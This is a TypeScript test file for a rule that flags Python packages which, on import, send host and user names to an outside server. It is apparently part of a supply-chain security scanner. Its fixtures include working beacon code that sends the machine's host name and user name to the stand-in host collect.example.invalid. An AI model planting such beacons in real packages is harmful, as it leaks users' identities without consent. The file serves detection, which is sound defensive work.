import { hostBeacon } from '../../src/rules/host-beacon.js';
import { wheel } from '../support/wheel.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const BEACON =
  'import getpass, socket, requests\nrequests.get("https://collect.example.invalid", params={"h": socket.gethostname(), "u": getpass.getuser()})\n';

releaseTest(hostBeacon, {
  flags: [
    { name: 'by HTTP', given: { base: wheel(), head: init(BEACON) }, level: 'block', says: 'collect.example.invalid' },
    {
      name: 'by way of a variable and a helper',
      given: {
        base: wheel(),
        head: init(
          'import json, platform, urllib.request\ndef _send(d):\n    urllib.request.urlopen("https://collect.example.invalid", data=json.dumps(d).encode())\ninfo = {"n": platform.node()}\n_send(info)\n',
        ),
      },
      level: 'block',
    },
    { name: 'a first release', given: { head: init(BEACON) }, level: 'warn' },
  ],
  allows: [
    {
      name: 'a client that tells its host name when used',
      given: {
        base: wheel(),
        head: init(
          'import socket, requests\ndef join(url):\n    requests.post(url, json={"host": socket.gethostname()})\n',
        ),
      },
      atMost: 'note',
    },
    {
      name: 'a user agent of system and version',
      given: {
        base: wheel(),
        head: init(
          'import platform, requests\nUA = "demo " + platform.system()\ndef get(url):\n    return requests.get(url, headers={"User-Agent": UA})\n',
        ),
      },
    },
    {
      name: 'a host name in the log',
      given: { base: wheel(), head: init('import logging, socket\nlogging.info(socket.gethostname())\n') },
    },
    { name: 'what the base did too', given: { base: init(BEACON), head: init(`V = 2\n${BEACON}`) } },
  ],
});
